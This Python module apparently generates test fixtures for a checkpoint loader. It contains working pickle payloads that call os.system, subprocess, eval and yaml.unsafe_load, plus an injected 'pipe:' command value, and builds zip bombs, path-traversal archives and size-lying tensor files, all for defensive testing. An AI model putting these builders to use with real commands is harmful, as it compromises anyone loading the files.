"""Pickles that would run code, and files of tensors that would cost far more than their size.

`code_files` yields files whose payload creates the proof when ``pickle.loads`` or torch's full
unpickler reads them; `costly_files` those that lie about sizes, repeat themselves or never end.
"""

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import torch

# module, name, arguments; {proof} is the file to be created.
CALLS: tuple[tuple[str, str, tuple[Any, ...]], ...] = (
    ("os", "system", ("touch {proof}",)),
    ("posix", "system", ("touch {proof}",)),
    ("nt", "system", ("touch {proof}",)),
    ("os", "popen", ("touch {proof}",)),
    ("os", "mkdir", ("{proof}",)),
    ("os", "makedirs", ("{proof}",)),
    ("os", "mknod", ("{proof}",)),
    ("os", "mkfifo", ("{proof}",)),
    ("os", "open", ("{proof}", 66)),
    ("os", "symlink", ("/", "{proof}")),
    ("os", "execvp", ("touch", ["touch", "{proof}"])),
    ("os", "execlp", ("touch", "touch", "{proof}")),
    ("os", "spawnvp", (0, "touch", ["touch", "{proof}"])),
    ("os", "posix_spawnp", ("touch", ["touch", "{proof}"], {})),
    ("os", "putenv", ("PATH", "{proof}")),
    ("os", "_exit", (0,)),
    ("os", "abort", ()),
    ("os", "kill", (0, 9)),
    ("subprocess", "Popen", (["touch", "{proof}"],)),
    ("subprocess", "call", (["touch", "{proof}"],)),
    ("subprocess", "run", (["touch", "{proof}"],)),
    ("subprocess", "check_call", (["touch", "{proof}"],)),
    ("subprocess", "check_output", (["touch", "{proof}"],)),
    ("subprocess", "getoutput", ("touch {proof}",)),
    ("subprocess", "getstatusoutput", ("touch {proof}",)),
    ("commands", "getoutput", ("touch {proof}",)),
    ("popen2", "popen3", ("touch {proof}",)),
    ("pty", "spawn", (["touch", "{proof}"],)),
    ("builtins", "eval", ("open('{proof}','w')",)),
    ("builtins", "exec", ("open('{proof}','w')",)),
    ("builtins", "open", ("{proof}", "w")),
    ("builtins", "compile", ("open('{proof}','w')", "x", "exec")),
    ("builtins", "__import__", ("antigravity",)),
    ("builtins", "getattr", ("{proof}", "__class__")),
    ("builtins", "setattr", ("{proof}", "a", 1)),
    ("builtins", "delattr", ("{proof}", "a")),
    ("builtins", "globals", ()),
    ("builtins", "input", ()),
    ("builtins", "breakpoint", ()),
    ("builtins", "exit", (0,)),
    ("builtins", "vars", ()),
    ("builtins", "memoryview", (b"x",)),
    ("builtins", "map", ("{proof}", [])),
    ("builtins", "type", ("X", (), {})),
    ("__builtin__", "eval", ("open('{proof}','w')",)),
    ("__builtin__", "execfile", ("{proof}",)),
    ("__builtin__", "apply", ("{proof}",)),
    ("__builtin__", "file", ("{proof}", "w")),
    ("io", "open", ("{proof}", "w")),
    ("io", "FileIO", ("{proof}", "w")),
    ("_io", "FileIO", ("{proof}", "w")),
    ("io", "open_code", ("{proof}",)),
    ("codecs", "open", ("{proof}", "w")),
    ("pathlib", "Path.touch", ("{proof}",)),
    ("pathlib", "os.system", ("touch {proof}",)),
    ("logging", "os.system", ("touch {proof}",)),
    ("logging", "FileHandler", ("{proof}",)),
    ("logging.config", "listen", ()),
    ("logging.config", "fileConfig", ("{proof}",)),
    ("logging.handlers", "SocketHandler", ("127.0.0.1", 9)),
    ("argparse", "_os.system", ("touch {proof}",)),
    ("argparse", "FileType", ("w",)),
    ("random", "_os.system", ("touch {proof}",)),
    ("collections", "_sys.modules.clear", ()),
    ("enum", "sys.exit", ()),
    ("dataclasses", "sys.exit", ()),
    ("uuid", "os.system", ("touch {proof}",)),
    ("weakref", "sys.exit", ()),
    ("typing", "sys.exit", ()),
    ("copyreg", "add_extension", ("os", "system", 1)),
    ("copyreg", "pickle", (int, int)),
    ("shutil", "rmtree", ("/nonexistent",)),
    ("shutil", "copyfile", ("/etc/hostname", "{proof}")),
    ("shutil", "os.system", ("touch {proof}",)),
    ("tempfile", "mkdtemp", ()),
    ("tempfile", "NamedTemporaryFile", ()),
    ("importlib", "import_module", ("antigravity",)),
    ("importlib.util", "spec_from_file_location", ("x", "{proof}")),
    ("imp", "load_source", ("x", "{proof}")),
    ("pkgutil", "get_loader", ("antigravity",)),
    ("runpy", "run_path", ("{proof}",)),
    ("runpy", "run_module", ("antigravity",)),
    ("code", "interact", ()),
    ("code", "InteractiveInterpreter", ()),
    ("codeop", "compile_command", ("open('{proof}','w')",)),
    ("timeit", "timeit", ("open('{proof}','w')",)),
    ("cProfile", "run", ("open('{proof}','w')",)),
    ("profile", "run", ("open('{proof}','w')",)),
    ("bdb", "Bdb.run", ("open('{proof}','w')",)),
    ("pdb", "run", ("open('{proof}','w')",)),
    ("trace", "Trace.run", ("open('{proof}','w')",)),
    ("doctest", "debug_script", ("open('{proof}','w')",)),
    ("pydoc", "pipepager", ("x", "touch {proof}")),
    ("webbrowser", "open", ("http://127.0.0.1:9/",)),
    ("urllib.request", "urlopen", ("http://127.0.0.1:9/",)),
    ("urllib.request", "urlretrieve", ("file:///etc/hostname", "{proof}")),
    ("http.client", "HTTPConnection", ("127.0.0.1", 9)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("ftplib", "FTP", ("127.0.0.1",)),
    ("smtplib", "SMTP", ("127.0.0.1", 9)),
    ("ctypes", "CDLL", ("{proof}",)),
    ("ctypes", "cdll.LoadLibrary", ("{proof}",)),
    ("marshal", "loads", (b"N",)),
    ("pickle", "loads", (b"cos\nsystem\n(Vtouch {proof}\ntR.",)),
    ("_pickle", "loads", (b"cos\nsystem\n(Vtouch {proof}\ntR.",)),
    ("pickle", "Unpickler", ("{proof}",)),
    ("shelve", "open", ("{proof}",)),
    ("dbm.dumb", "open", ("{proof}", "c")),
    ("sqlite3", "connect", ("{proof}",)),
    ("zipfile", "ZipFile", ("{proof}", "w")),
    ("tarfile", "open", ("{proof}", "w")),
    ("gzip", "open", ("{proof}", "w")),
    ("types", "FunctionType", ()),
    ("types", "CodeType", ()),
    ("types", "ModuleType", ("x",)),
    ("functools", "partial", ("{proof}",)),
    ("functools", "reduce", ("{proof}", [])),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", "touch {proof}")),
    ("operator", "call", ("{proof}",)),
    ("itertools", "starmap", ("{proof}", [])),
    ("threading", "Thread", ()),
    ("multiprocessing", "Process", ()),
    ("multiprocessing.util", "spawnv_passfds", ("touch", ["touch", "{proof}"], [])),
    ("concurrent.futures", "ProcessPoolExecutor", ()),
    ("asyncio", "create_subprocess_shell", ("touch {proof}",)),
    ("asyncio.unix_events", "_UnixSubprocessTransport", ()),
    ("signal", "raise_signal", (15,)),
    ("atexit", "register", ("{proof}",)),
    ("sys", "exit", (0,)),
    ("sys", "setrecursionlimit", (1 << 30,)),
    ("sys", "settrace", (None,)),
    ("gc", "get_objects", ()),
    ("inspect", "getsource", ("{proof}",)),
    ("site", "addsitedir", ("{proof}",)),
    ("venv", "create", ("{proof}",)),
    ("ensurepip", "bootstrap", ()),
    ("pip", "main", (["download", "x"],)),
    ("pip._internal", "main", (["download", "x"],)),
    ("setuptools", "setup", ()),
    ("torch", "load", ("{proof}",)),
    ("torch", "save", (1, "{proof}")),
    ("torch", "os.system", ("touch {proof}",)),
    ("torch", "_C._jit_set_profiling_mode", (False,)),
    ("torch.serialization", "load", ("{proof}",)),
    ("torch.serialization", "os.system", ("touch {proof}",)),
    ("torch.jit", "load", ("{proof}",)),
    ("torch.jit._serialization", "load", ("{proof}",)),
    ("torch.hub", "load", ("x/y", "z")),
    ("torch.hub", "download_url_to_file", ("file:///etc/hostname", "{proof}")),
    ("torch.utils.cpp_extension", "load_inline", ("x", "int x;")),
    ("torch.ops", "load_library", ("{proof}",)),
    ("torch.package", "PackageImporter", ("{proof}",)),
    ("torch.fx.graph_module", "reduce_graph_module", ({}, "open('{proof}','w')")),
    ("torch.distributed.rpc.internal", "_run_function", (b"x",)),
    ("torch.multiprocessing.reductions", "rebuild_storage_filename", ()),
    ("torch._utils", "_rebuild_device_tensor_from_numpy", ()),
    ("torch._dynamo", "optimize", ()),
    ("numpy", "load", ("{proof}",)),
    ("numpy", "save", ("{proof}", 1)),
    ("numpy", "fromfile", ("{proof}",)),
    ("numpy", "memmap", ("{proof}", "uint8", "w+", 0, (1,))),
    ("numpy", "f2py.compile", ("x",)),
    ("numpy.testing", "rundocs", ("{proof}",)),
    ("numpy.testing._private.utils", "runstring", ("open('{proof}','w')", {})),
    ("numpy.distutils.exec_command", "exec_command", ("touch {proof}",)),
    ("numpy.ctypeslib", "load_library", ("{proof}", ".")),
    ("numpy.core.multiarray", "os.system", ("touch {proof}",)),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['touch {proof}']",)),
    ("yaml.constructor", "UnsafeConstructor", ()),
    ("cv2", "imwrite", ("{proof}.png", None)),
    ("cv2", "os.system", ("touch {proof}",)),
    ("PIL.Image", "open", ("{proof}",)),
    ("pandas", "read_pickle", ("{proof}",)),
    ("pandas.io.common", "os.system", ("touch {proof}",)),
    ("joblib", "load", ("{proof}",)),
    ("dill", "loads", (b"N.",)),
    ("cloudpickle", "loads", (b"N.",)),
    ("detectron2.utils.env", "_import_file", ("x", "{proof}")),
    ("detectron2.utils.env", "os.system", ("touch {proof}",)),
    ("fvcore.common.config", "CfgNode.load_yaml_with_base", ("{proof}",)),
    ("moco_common.files", "replace_text", ("{proof}", "x")),
    ("moco_common.files", "append_text", ("{proof}", "x")),
    ("moco_common.files", "shutil.rmtree", ("{proof}",)),
    ("moco_common.launch", "launch", ("{proof}", 1)),
    ("pretrain.data.sources", "open_source", ("shards:pipe:touch {proof}",)),
    ("pretrain.checkpoint.format", "save", ({"step": 0}, "{proof}")),
    ("tools.pretrain", "main", (["--data", "shards:pipe:touch {proof}"],)),
    ("__main__", "main", ()),
    ("antigravity", "geohash", ()),
    ("this", "s", ()),
)
FORMS = (
    *("reduce0", "reduce2", "reduce4", "newobj", "newobj_ex", "inst", "obj", "memo", "key"),
    *("setstate", "partial", "dict_item", "tuple", "set", "after_stop", "build", "append"),
    *("setitem", "extension1", "extension2", "extension4", "persistent0", "persistent2"),
)
CONTAINERS = (
    *("pickle", "zip", "legacy", "legacy magic", "legacy system", "legacy keys", "nested bytes"),
    *("npy", "npz", "torchscript", "tar", "beside weights", "second entry", "zip system"),
)


def _filled(value: Any, proof: str) -> Any:
    if isinstance(value, str):
        return value.replace("{proof}", proof)
    if isinstance(value, bytes):
        return value.replace(b"{proof}", proof.encode())
    if isinstance(value, (list, tuple)):
        return type(value)(_filled(part, proof) for part in value)
    if isinstance(value, dict):
        return {_filled(k, proof): _filled(v, proof) for k, v in value.items()}
    return value


def _push(value: Any, protocol: int = 2) -> bytes:
    """Instructions that put a plain value on the stack, without memo."""
    buffer = io.BytesIO()
    pickler = pickle.Pickler(buffer, protocol)
    pickler.fast = True  # no memo: it is part of another pickle
    pickler.dump(value)
    content = buffer.getvalue()
    return content[2 if protocol >= 2 else 0 : -1]


def instructions(module: str, name: str, arguments: tuple[Any, ...], form: str) -> bytes:
    """A whole pickle that calls ``module.name(*arguments)``, or changes it, in one of `FORMS`."""
    named = f"c{module}\n{name}\n".encode()
    put, mark = _push(arguments), b"("
    each = b"".join(_push(argument) for argument in arguments)
    text = [_push(part) for part in (module, name)]
    call = named + put + b"R"
    first = _push(arguments[0] if arguments else "x")
    head = b"\x80\x04"
    bodies = {
        "reduce0": named + _push(arguments, 0) + b"R.",
        "reduce2": b"\x80\x02" + call + b".",
        "reduce4": head + text[0] + text[1] + b"\x93" + put + b"R.",
        "newobj": head + named + put + b"\x81.",
        "newobj_ex": head + named + put + b"}\x92.",
        "inst": mark + each + f"i{module}\n{name}\n.".encode(),
        "obj": mark + named + each + b"o.",
        "memo": head + named + b"q\xc80h\xc8" + put + b"R.",
        "key": head + b"}" + call + b"K\x01s.",
        "setstate": head
        + b"cargparse\nNamespace\n)\x81}"
        + _push("__setstate__")
        + named
        + b"sb"
        + first
        + b"b.",
        "partial": head + b"cfunctools\npartial\n" + named + b"\x85R" + put + b"R.",
        "dict_item": head + b"}" + _push("state_dict") + call + b"s.",
        "tuple": head + mark + call + b"K\x01t.",
        "set": head + b"\x8f" + mark + call + b"\x90.",
        "after_stop": b"\x80\x02}.\x80\x02" + call + b".",
        "build": head + named + b"}" + _push("a") + b"K\x01sb.",
        "append": head + named + first + b"a.",
        "setitem": head + named + first + b"Ns.",
        "extension1": head + b"\x82\x01" + put + b"R.",
        "extension2": head + b"\x83\x01\x01" + put + b"R.",
        "extension4": head + b"\x84\x01\x00\x00\x01" + put + b"R.",
        "persistent0": b"P" + f"{module}.{name}".encode() + b"\n.",
        "persistent2": head + mark + _push("storage") + call + _push("0") + b"NK\x01tQ.",
    }
    return bodies[form]


def _zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _saved(tree: Any, zipped: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(tree, buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


_MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
_SYSTEM = pickle.dumps({"little_endian": True, "protocol_version": 1001, "type_sizes": {}}, 2)


def in_container(content: bytes, container: str) -> bytes:
    """A hostile pickle as the part of a file in which a loader would meet it."""
    weights = {"state_dict": {"conv1.weight": torch.ones(2)}}
    version = {"a/version": b"3\n", "a/byteorder": b"little"}
    if container == "zip":
        return _zip_of({"a/data.pkl": content, **version})
    if container == "torchscript":
        code = {"a/code/__torch__.py": b"class M(Module):\n  pass\n"}
        return _zip_of({"a/data.pkl": content, "a/constants.pkl": content, **code, **version})
    if container == "second entry":
        return _zip_of({"a/data.pkl": b"\x80\x02}.", "b/data.pkl": content, **version})
    if container == "zip system":
        return _zip_of(
            {"a/data.pkl": b"\x80\x02}.", "a/.data/serialization_id": content, **version}
        )
    if container == "npz":
        return _zip_of({"a.npy": in_container(content, "npy")})
    if container == "npy":
        header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content
    if container == "tar":
        import tarfile

        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            for name in ("sys_info", "pickle", "tensors", "storages"):
                info = tarfile.TarInfo(name)
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        return buffer.getvalue()
    if container == "beside weights":  # a whole state dict, and the payload behind it
        saved = zipfile.ZipFile(io.BytesIO(_saved(weights)))
        entries = {info.filename: saved.read(info) for info in saved.infolist()}
        name = next(name for name in entries if name.endswith("data.pkl"))
        payload = content.removeprefix(b"\x80\x02").removeprefix(b"\x80\x04")[:-1]
        entries[name] = entries[name][:-1] + _push("more") + payload + b"s."
        return _zip_of(entries)
    if container == "legacy":
        return _MAGIC + _SYSTEM + content + pickle.dumps([], 2)
    if container == "legacy magic":
        return content + _MAGIC + _SYSTEM
    if container == "legacy system":
        return _MAGIC + content + pickle.dumps(weights["state_dict"].keys().__len__(), 2)
    if container == "legacy keys":
        return _MAGIC + _SYSTEM + pickle.dumps({}, 2) + content
    if container == "nested bytes":
        inner = in_container(content, "legacy")
        return b"\x80\x04ctorch.storage\n_load_from_bytes\n" + _push(inner, 4) + b"\x85R."
    return content


Case = tuple[str, bytes]


def code_files(proof: Path) -> Iterator[Case]:
    """Files with a payload: every call, in forms and containers that take turns."""
    for number, (module, name, arguments) in enumerate(CALLS):
        filled = _filled(arguments, str(proof))
        for turn in range(2):
            form = FORMS[(number + turn * 7) % 16]  # those that call
            container = CONTAINERS[(number * 3 + turn) % len(CONTAINERS)] if turn else "pickle"
            content = instructions(module, name, filled, form)
            yield f"{module}.{name}, {form}, {container}", in_container(content, container)
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
    yield "a TorchScript archive", buffer.getvalue()


def crossed_files(proof: Path) -> Iterator[Case]:
    """Two of the calls in every form and every container."""
    for module, name, arguments in (CALLS[0], CALLS[28]):
        filled = _filled(arguments, str(proof))
        for form in FORMS:
            for container in CONTAINERS:
                content = instructions(module, name, filled, form)
                yield f"{module}.{name}, {form}, {container}", in_container(content, container)


def _safetensors(header: Any, data: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def _entry(dtype: Any = "F32", shape: Any = (2,), offsets: Any = (0, 8)) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": offsets}


def _safetensors_files() -> Iterator[Case]:
    lies: dict[str, Any] = {
        "a header of 2^62 bytes": _safetensors(b"{}", length=1 << 62),
        "a header of 2^64 - 1 bytes": _safetensors(b"{}", length=(1 << 64) - 1),
        "a header of 2^31 bytes": _safetensors(b"{}", length=1 << 31),
        "an empty header": _safetensors(b""),
        "a header that is no JSON": _safetensors(b"{'a': 1}"),
        "a header that is a list": _safetensors([1, 2]),
        "a deep header": _safetensors(b'{"a":' + b"[" * 300_000),
        "a deep header in metadata": _safetensors(
            b'{"__metadata__":{"a":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_002
        ),
        "many tensors of one place": _safetensors(
            {str(i): _entry() for i in range(20_000)}, bytes(8)
        ),
        "doubled names": _safetensors(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
            b'"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}',
            bytes(8),
        ),
        "metadata of numbers": _safetensors({"__metadata__": {"a": 1}}),
        "metadata that are a list": _safetensors({"__metadata__": [1]}),
        "no tensors": _safetensors({}),
    }
    for name, value in (
        ("2^40 elements", _entry(shape=[1 << 40])),
        ("2^62 x 2^62 elements", _entry(shape=[1 << 62, 1 << 62])),
        ("2^64 elements", _entry(shape=[1 << 64])),
        ("0 x 2^62 elements", _entry(shape=[0, 1 << 62], offsets=[0, 0])),
        ("a negative size", _entry(shape=[-2])),
        ("a size that is text", _entry(shape=["2"])),
        ("1.5 elements", _entry(shape=[1.5])),
        ("65 dimensions", _entry(shape=[1] * 65, offsets=[0, 4])),
        ("1e9 dimensions", _entry(shape=[1] * 100_000, offsets=[0, 4])),
        ("offsets in reverse", _entry(offsets=[8, 0])),
        ("offsets below zero", _entry(offsets=[-8, 0])),
        ("offsets beyond the end", _entry(offsets=[0, 1 << 50])),
        ("three offsets", _entry(offsets=[0, 8, 9])),
        ("an unknown dtype", _entry(dtype="F99")),
        ("a dtype that is a list", _entry(dtype=["F32"])),
        ("no dtype", {"shape": [2], "data_offsets": [0, 8]}),
        ("a number in place of an entry", 7),
        ("null in place of an entry", None),
    ):
        lies[name] = _safetensors({"a": value}, bytes(8))
    for name, content in lies.items():
        yield f"safetensors with {name}", content


def _zip_files() -> Iterator[Case]:
    honest = _saved({"state_dict": {"w": torch.ones(64)}})
    end = honest.rfind(b"PK\x05\x06")
    directory = struct.unpack("<I", honest[end + 16 : end + 20])[0]
    for name, place, content in (
        ("a negative offset of an entry", directory + 42, b"\xff\xff\xff\xff"),
        ("an entry larger than the file", directory + 24, b"\xff\xff\xff\x7f"),
        ("an entry of zip64 sizes", directory + 20, b"\xff" * 8),
        ("an encrypted entry", directory + 8, b"\x01\x00"),
        ("an unknown compression", directory + 10, b"\x63\x00"),
        ("a name that is longer than the directory", directory + 28, b"\xff\xff"),
        ("a directory beyond the end", end + 16, b"\xff\xff\xff\x7f"),
        ("65,535 entries", end + 8, b"\xff\xff\xff\xff"),
        ("a comment beyond the end", end + 20, b"\xff\xff"),
        ("a directory of 4 GiB", end + 12, b"\xff\xff\xff\xff"),
    ):
        changed = bytearray(honest)
        changed[place : place + len(content)] = content
        yield f"zip with {name}", bytes(changed)
    version = {"a/version": b"3\n"}
    with io.BytesIO() as buffer:
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a/data.pkl", b"\x80\x02" + b"0" * 50_000_000 + b".")
        yield "zip bomb, deflated", buffer.getvalue()
    with io.BytesIO() as buffer:
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
            archive.writestr("a/data.pkl", bytes(20_000_000))
        yield "zip bomb, lzma", buffer.getvalue()
    yield "zip of 60,000 entries", _zip_of({f"a/data/{i}": b"" for i in range(60_000)} | version)
    yield "zip with paths upwards", _zip_of({"../../data.pkl": b"\x80\x02}.", **version})
    yield "zip with an absolute path", _zip_of({"/tmp/data.pkl": b"\x80\x02}.", **version})
    yield "zip without data.pkl", _zip_of(version)
    yield "zip of zips", _zip_of({"a/data.pkl": _zip_of({"a/data.pkl": honest})})
    yield "an empty zip", b"PK\x05\x06" + bytes(18)
    yield "big-endian", _zip_of({"a/data.pkl": b"\x80\x02}.", "a/byteorder": b"big"})
    name = honest.index(b"data.pkl")
    yield (
        "zip whose local and central names differ",
        honest[:name] + b"evil.pkl" + honest[name + 8 :],
    )


def _tensor(size: Any, stride: Any, numel: Any = 4, offset: Any = 0, kind: str = "Float") -> bytes:
    """A zip of torch's, whose only tensor has these arguments."""
    storage = b"(" + _push("storage") + f"ctorch\n{kind}Storage\n".encode()
    storage += _push("0") + _push("cpu") + _push(numel) + b"tQ"
    body = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + _push(offset) + _push(size)
    body += _push(stride) + b"\x89ccollections\nOrderedDict\n)RtR"
    pickled = b"\x80\x02}" + _push("state_dict") + b"}" + _push("conv1.weight") + body + b"ss."
    return _zip_of({"a/data.pkl": pickled, "a/data/0": bytes(16), "a/version": b"3\n"})


def _tensor_files() -> Iterator[Case]:
    huge = 1 << 40
    for name, arguments in {
        "expanded to 2^40 elements": ((huge,), (0,)),
        "expanded to 2^40 x 2^40": ((huge, huge), (0, 0)),
        "of no element but a huge side": ((0, 1 << 62), (1, 1)),
        "of a negative size": ((-1,), (1,)),
        "of a negative stride": ((4,), (-1,)),
        "of a size of text": (("4",), (1,)),
        "of a size that is true": ((True,), (1,)),
        "of more strides than sizes": ((4,), (1, 1)),
        "of 100 dimensions": ((1,) * 100, (1,) * 100),
        "of a stride of 2^61": ((2,), (1 << 61,)),
        "of a size of 2^100": ((1 << 100,), (1,)),
        "of a size that is a list of lists": ([[4]], (1,)),
        "without a size": (None, None),
    }.items():
        yield f"tensor {name}", _tensor(*arguments)
    for numel in (-1, 5, 1 << 61, 1 << 63, 1 << 200, 1.5, None, "4", True):
        yield f"storage of {numel!r} elements", _tensor((4,), (1,), numel)
    for offset in (-1, 1, 1 << 61, None, "0", 0.5):
        yield f"tensor at offset {offset!r}", _tensor((4,), (1,), 4, offset)
    for kind in ("BFloat16", "Bool", "QInt8", "ComplexDouble", "Untyped", "Evil", "Double"):
        yield f"tensor in a {kind}Storage", _tensor((1,), (1,), 1, 0, kind)


def _array(shape: Any, code: str, data: Any, order: bool = False) -> bytes:
    make = (
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n" + _push((0,)) + _push(b"b", 4)
    )
    dtype = b"cnumpy\ndtype\n" + _push((code, False, True)) + b"R("
    dtype += b"".join(_push(x) for x in (3, "<", None, None, None, -1, -1, 0)) + b"tb"
    state = b"(K\x01" + _push(shape) + dtype + (b"\x88" if order else b"\x89") + _push(data, 4)
    return b"\x80\x04}" + _push("state_dict") + make + b"tR" + state + b"tbs."


def _array_files() -> Iterator[Case]:
    for name, arguments in {
        "2^40 elements": ((1 << 40,), "f4", b"abcd"),
        "a negative side": ((-1,), "f4", b"abcd"),
        "text for bytes": ((1,), "f4", "\u0394abc"),
        "objects": ((1,), "O8", [{}]),
        "a structure": ((1,), "V8", b"abcdefgh"),
        "text": ((1,), "U2", b"abcdefgh"),
        "dates": ((1,), "M8", b"abcdefgh"),
        "an unknown type": ((1,), "x9", b"abcdefgh"),
        "a type of 100,000 letters": ((1,), "f4," * 33_333, b"abcdefgh"),
        "no data": ((1,), "f4", None),
        "0 x 2^62 elements": ((0, 1 << 62), "f4", b""),
        "40 dimensions": ((1,) * 40, "f4", b"abcd"),
        "a shape of text": ("12", "f4", b"abcd"),
    }.items():
        yield f"array of {name}", _array(*arguments)


def _repeating_files() -> Iterator[Case]:
    byte = bytes
    twice = b"".join(b"(h%sh%s\x86q%s0" % (byte([i]), byte([i]), byte([i + 1])) for i in range(100))
    yield "a tuple of itself twice, 100 times", b"\x80\x02]q\x00" + twice + b"hd."
    text = _push("x" * 100_000)
    copies = b"".join(b"ccollections\nOrderedDict\nh\x00\x85R" for _ in range(3_000))
    pairs = b"(" + b"".join(b"]" + _push("k") + b"aNa" for _ in range(300)) + b"l"
    yield "a mapping copied 3,000 times", b"\x80\x02" + pairs + b"q\x00(" + copies + b"l."
    frozen = b"".join(b"cbuiltins\nbytearray\nh\x00\x85R" for _ in range(3_000))
    yield "a text copied 3,000 times", b"\x80\x02" + text + b"q\x00(" + frozen + b"l."
    yield "a list inside itself", b"\x80\x02]q\x00h\x00a."
    yield "a mapping inside itself", b"\x80\x02}q\x00" + _push("a") + b"h\x00s."
    module = b"cargparse\nNamespace\n)\x81q\x00}" + _push("_parameters") + b"}" + _push("a")
    yield "a module inside itself", b"\x80\x02" + module + b"h\x00ss" + b"b."
    yield "300,000 marks", b"\x80\x02" + b"(" * 300_000 + b"."
    yield "300,000 duplicates", b"\x80\x02N" + b"2" * 300_000 + b"."
    yield "a pop too many", b"\x80\x0200000."
    yield "no stop", b"\x80\x02" + b"N0" * 100_000
    yield "deep lists", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."
    yield "deep tuples", b"\x80\x02)" + b"\x85" * 200_000 + b"."
    yield "deep mappings", b"\x80\x02" + (b"}" + _push("a")) * 50_000 + b"N" + b"s" * 50_000 + b"."
    yield (
        "deep namespaces",
        (b"\x80\x02" + b"cargparse\nNamespace\n)\x81}" * 30_000 + b"b" * 29_999 + b"."),
    )
    yield "frames that lie", b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"}."
    for code, size in (
        (b"\x8d", "<Q"),
        (b"\x8e", "<Q"),
        (b"\x96", "<Q"),
        (b"X", "<I"),
        (b"T", "<I"),
    ):
        for count in (1 << 20, (1 << 31) - 1, (1 << 32) - 1):
            yield (
                f"{code!r} claims {count} bytes",
                b"\x80\x05" + code + struct.pack(size, count) + b"x.",
            )
    for count in (1 << 34, 1 << 62, (1 << 64) - 1):
        for code in (b"\x8d", b"\x8e", b"\x96"):
            yield (
                f"{code!r} claims {count} bytes",
                b"\x80\x05" + code + struct.pack("<Q", count) + b"x.",
            )
    for count in (1 << 24, (1 << 31) - 1, -1):
        yield f"an integer of {count} bytes", b"\x80\x02\x8b" + struct.pack("<i", count) + b"x."
    for index in (1 << 20, (1 << 31) - 1, (1 << 32) - 1):
        yield f"place {index} of the memo", b"\x80\x02}r" + struct.pack("<I", index) + b"."
    yield "a memo of text", b"\x80\x02}p99999999999999999999\n."
    yield "an integer of 3,000,000 digits", b"I" + b"9" * 3_000_000 + b"\n."
    yield "a long of 3,000,000 digits", b"L" + b"9" * 3_000_000 + b"L\n."
    yield "a float of 3,000,000 digits", b"F" + b"9" * 3_000_000 + b"\n."
    yield "text with 1,000,000 escapes", b"S'" + b"\\x41" * 1_000_000 + b"'\n."
    yield "protocol 99", b"\x80\x63}."
    yield "a buffer from outside", b"\x80\x05\x97."
    yield "a read-only buffer from outside", b"\x80\x05\x97\x98."


def costly_files() -> Iterator[Case]:
    """Files that claim, repeat or nest more than they hold."""
    yield from _safetensors_files()
    yield from _zip_files()
    yield from _tensor_files()
    yield from _array_files()
    yield from _repeating_files()
    storage = torch.zeros(50_001, dtype=torch.uint8)
    yield (
        "2,000 tensors of one storage, unaligned",
        _saved({str(i): storage[1:] for i in range(2000)}),
    )
    legacy = _saved({"a": torch.ones(4)}, zipped=False)
    yield "legacy storage that claims more", legacy.replace(b"cpuq\x06K\x04", b"cpuq\x06M\xff\xff")
    yield "npy of 2^40 elements", in_container(b"", "npy").replace(b"(1,)", b"(1099511627776,)")
    deep = b"{'descr': " + b"(" * 20_000
    yield "npy with a deep header", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(deep)) + deep
    with io.BytesIO() as buffer:
        np.savez(buffer, a=np.ones(3))
        yield "npz", buffer.getvalue()
    yield "gzip", b"\x1f\x8b\x08" + zlib.compress(bytes(1000))
    yield "JSON", b'{"state_dict": {}}'
    yield "HTML", b"<!DOCTYPE html><html>404</html>"
    yield "nothing", b""
    yield "zeros", bytes(5000)
    yield "noise", np.random.default_rng(0).bytes(5000)
    for number, value in enumerate(
        (
            None,
            3,
            "text",
            b"bytes",
            [],
            (),
            {},
            {"state_dict": None},
            {"model": 3},
            {"state_dict": {"w": {}}},
            {"model": {"a": 1}},
            {1: 2},
            {"state_dict": [torch.ones(1)]},
            torch.ones(2),
            [1, 2],
            {"model": {1: torch.ones(1)}},
            {"state_dict": {"": torch.ones(1)}},
            {"state_dict": {"\n\x1b[31m": torch.ones(1)}},
        )
    ):
        yield f"plain value {number}", _saved(value)
